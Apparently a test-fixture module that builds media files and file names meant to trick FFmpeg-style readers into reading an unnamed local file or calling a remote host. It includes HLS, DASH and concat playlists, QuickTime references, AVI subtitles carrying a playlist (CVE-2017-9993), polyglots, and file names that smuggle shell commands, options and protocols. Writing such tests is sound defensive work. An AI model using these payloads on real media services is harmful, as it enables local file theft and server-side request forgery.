"""Files that ask their reader for another file or host: playlists, scripts, references, and names that look like URLs.

Each trick is known from FFmpeg's own demuxers or from published attacks. `foreign` is a file that nobody named, `url`
an address on somebody else's server.
"""

from __future__ import annotations

import struct
from pathlib import Path

XMP = bytes.fromhex("be7acfcb97a942e89c71999491e3afac")
"""The `uuid` of a box of XMP in ISO media."""
CONTAINERS = (b"moov", b"trak", b"mdia", b"minf", b"dinf")


def contents(film: bytes, movie: bytes, foreign: Path, url: str) -> dict[str, bytes]:
    """Name → content. `film` is an MP4, `movie` a MOV whose `moov` is at the end."""
    hls = "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-MEDIA-SEQUENCE:0\n"
    places = (f"file://{foreign}", str(foreign), "sibling.ts", f"{url}/a.ts", f"concat:{foreign}|{foreign}")
    segments = "".join(f"#EXTINF:1.0,\n{place}\n" for place in places)
    playlist = f"{hls}{segments}#EXT-X-ENDLIST\n"
    key = f'{hls}#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXT-X-MAP:URI="{foreign}"\n{segments}#EXT-X-ENDLIST\n'
    master = f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000\n{url}/low.m3u8\n#EXT-X-STREAM-INF:BANDWIDTH=9\n{foreign}\n"
    concat = f"ffconcat version 1.0\nfile '{foreign}'\nfile sibling.ts\nfile '{url}/a.ts'\n"
    session = "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:{0}\nm=video {1} RTP/AVP 96\n"
    sdp = session.format(url.replace("http", "rtsp"), url.rpartition(":")[2]) + "a=rtpmap:96 H264/90000\n"
    texts = {
        "playlist.m3u8": playlist,
        "playlist-as.mp4": playlist,
        "playlist-as.ts": playlist,
        "playlist-key.mkv": key,
        "playlist-master.mov": master,
        "concat.ffconcat": concat,
        "concat-as.avi": concat,
        "session.sdp": sdp,
        "session-as.mp4": sdp,
        "dash.mpd": _dash(foreign, url),
        "dash-as.mp4": _dash(foreign, url),
        "imf-cpl.mxf": _imf(foreign),
        "imf-assets.mxf": _assets(foreign, url),
        "reference.asf": f"[Reference]\r\nRef1={url}/a.asf\r\nRef2={foreign}\r\n",
        "reference.asx": f'<asx version="3.0"><entry><ref href="{url}/a.wmv"/></entry></asx>',
        "list.pls": f"[playlist]\nFile1={foreign}\nFile2={url}/a.mp3\nNumberOfEntries=2\n",
        "rtsp-text.mov": f"RTSPtext\r\n{url.replace('http', 'rtsp')}/a\r\n",
        "picture.svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="9" '
        f'height="9"><image x:href="file://{foreign}" width="9" height="9"/><image x:href="{url}/a.png"/></svg>',
        "script.avs": f'FFmpegSource2("{foreign}")\n',
        "script.vpy": f"import vapoursynth\nopen({str(foreign)!r}).read()\n",
        "subtitles.idx": f"# VobSub index file, v7 (do not modify this line!)\nid: {foreign}, index: 0\n",
        "lyrics.mp3": f";FFMETADATA1\ntitle={foreign}\n",
    }
    made = {name: text.encode() for name, text in texts.items()}
    made["subtitled.avi"] = _avi_with_subtitles(playlist.encode())
    made["subtitled-concat.avi"] = _avi_with_subtitles(concat.encode())
    made["alias.mov"] = _with_data_reference(movie, _alias(foreign))
    made["alias-relative.mov"] = _with_data_reference(movie, _alias(Path("/sibling.ts")))
    made["located.mov"] = _with_data_reference(movie, _box(b"url ", bytes(4) + f"{url}/a.mov\0".encode()))
    made["located-file.mp4"] = _with_data_reference(movie, _box(b"url ", bytes(4) + f"file://{foreign}\0".encode()))
    made["redirected.mov"] = _redirecting(str(foreign)) + movie
    made["redirected-away.mov"] = _redirecting(f"{url}/a.mov") + film
    made["provenance.mp4"] = film + _box(b"uuid", XMP + _provenance(url))
    # A polyglot: the first reader that judges by the name or by the tail sees something else than the next one.
    made["film-then-playlist.mp4"] = film + _box(b"free", b"\n" + playlist.encode())
    made["playlist-then-film.mp4"] = playlist.encode() + b"\n" + film
    return made


def names(url: str, foreign: Path) -> list[str]:
    """Names for films that could be taken for an option, a protocol, a pattern or a command."""
    host = url.removeprefix("http://")
    return [
        "-i.mp4",
        "-f.mp4",
        "--output=x.mp4",
        "@files.mp4",
        "file:a.mp4",
        "pipe:0",
        "pipe:0.mp4",
        "concat:a.mp4|sibling.ts",
        "concatf:sibling.ts",
        "subfile,,start,0,end,9,,:sibling.ts",
        "data:video,mp4",
        "crypto:sibling.ts",
        "async:cache:sibling.ts",
        f"tcp:{host.replace(':', ' ')}.mp4",
        "frame%03d.mp4",
        "frame%03d.png",
        "frame001.png",
        "*.mp4",
        "?.mp4",
        "[a-z]*.mp4",
        "$(touch touched-1).mp4",
        "`touch touched-2`.mp4",
        "a;touch touched-3;.mp4",
        "|touch touched-4.mp4",
        "a|touch touched-5",
        "&touch touched-6&.mp4",
        "a.mp4,movie=sibling.ts",
        "a.mp4[v];amovie=sibling.ts",
        "zip:a.zip::b.mp4",
        f"http:/{host}/a.mp4",
        f"filecache::http:/{host}/a.mp4",
        f"reference{str(foreign).replace('/', ':')}.mp4",
        "..mp4",
        "...mp4",
        " a.mp4 ",
        "a\nfile:sibling.ts\n.mp4",
    ]


def _box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I4s", 8 + len(body), kind) + body


def _with_data_reference(movie: bytes, entry: bytes) -> bytes:
    """The movie with tracks that declare their samples to be where `entry` says."""
    found, at = b"", 0
    while at + 8 <= len(movie):
        size, kind = struct.unpack_from(">I4s", movie, at)
        size = size or len(movie) - at
        body = movie[at + 8 : at + size]
        if kind in CONTAINERS:
            body = _with_data_reference(body, entry)
        elif kind == b"dref":
            body = struct.pack(">II", 0, 1) + entry
        found += _box(kind, body)
        at += size
    return found


def _alias(path: Path) -> bytes:
    """A Macintosh alias record, as FFmpeg reads it: volume, file name, and the absolute path as item 2."""
    where = ("HD" + str(path).replace("/", ":")).encode()
    where += b"\0" * (len(where) % 2)
    record = bytes(10) + b"\x02" + b"HD".ljust(27, b"\0") + bytes(12)
    record += bytes([min(63, len(path.name))]) + path.name.encode()[:63].ljust(63, b"\0") + bytes(16)
    record += struct.pack(">HH", 1, 1) + bytes(16) + struct.pack(">HH", 2, len(where)) + where + b"\xff\xff\0\0"
    return _box(b"alis", bytes(4) + record.ljust(160, b"\0"))


def _redirecting(place: str) -> bytes:
    """A movie that consists only of a reference to another one (rmra)."""
    reference = _box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(place) + 1) + place.encode() + b"\0")
    return _box(b"ftyp", b"qt  \0\0\2\0qt  ") + _box(b"moov", _box(b"rmra", _box(b"rmda", reference)))


def _provenance(url: str) -> bytes:
    """XMP that points to Content Credentials elsewhere."""
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" '
        f'xmlns:dcterms="http://purl.org/dc/terms/" dcterms:provenance="{url}/manifest.c2pa"/></rdf:RDF></x:xmpmeta>'
        '<?xpacket end="w"?>'
    ).encode()


def _avi_with_subtitles(script: bytes) -> bytes:
    """An AVI whose first packets are GAB2 subtitles that contain a playlist (CVE-2017-9993 and similar)."""
    text = b"GAB2\0\x02\0" + struct.pack("<I", 2) + b"a\0" + struct.pack("<HI", 4, len(script)) + script
    text += b"\0" * (len(text) % 2)
    stream = struct.pack("<4s4sIHHIIIIIIII8s", b"txts", bytes(4), 0, 0, 0, 0, 1, 25, 0, 9, 0, 0, 0, bytes(8))
    strl = b"strl" + _chunk(b"strh", stream) + _chunk(b"strf", bytes(40))
    head = struct.pack("<14I", 40_000, 0, 0, 16, 125, 0, 2, 0, 224, 160, 0, 0, 0, 0)
    hdrl = b"hdrl" + _chunk(b"avih", head) + _chunk(b"LIST", strl) + _chunk(b"LIST", strl.replace(b"txts", b"vids"))
    movi = b"movi" + _chunk(b"00tx", text) + _chunk(b"01dc", bytes(200)) * 50
    return _chunk(b"RIFF", b"AVI " + _chunk(b"LIST", hdrl) + _chunk(b"LIST", movi))


def _chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def _dash(foreign: Path, url: str) -> str:
    sets = "".join(
        f'<AdaptationSet mimeType="video/mp4"><Representation id="{n}" bandwidth="9" codecs="avc1.4d401e" width="64" '
        f'height="48"><BaseURL>{place}</BaseURL><SegmentList duration="1"><Initialization sourceURL="{place}"/>'
        f'<SegmentURL media="{place}"/></SegmentList></Representation></AdaptationSet>'
        for n, place in enumerate((str(foreign), f"{url}/a.mp4", "sibling.ts"))
    )
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" mediaPresentationDuration="PT2S" '
        f'type="static" profiles="urn:mpeg:dash:profile:isoff-live:2011"><Period>{sets}</Period></MPD>'
    )


def _imf(foreign: Path) -> str:
    """A composition playlist; a reader looks for its ASSETMAP.xml in the same folder."""
    return (
        '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
        "<Id>urn:uuid:00000000-0000-0000-0000-000000000001</Id><ContentTitle>a</ContentTitle><EditRate>25 1</EditRate>"
        f"<ExtensionProperties>{foreign}</ExtensionProperties><SegmentList/></CompositionPlaylist>"
    )


def _assets(foreign: Path, url: str) -> str:
    return (
        '<?xml version="1.0"?><AssetMap xmlns="http://www.smpte-ra.org/schemas/429-9/2007/AM"><AssetList>'
        f"<Asset><ChunkList><Chunk><Path>{foreign}</Path></Chunk><Chunk><Path>{url}/a.mxf</Path></Chunk></ChunkList>"
        "</Asset></AssetList></AssetMap>"
    )
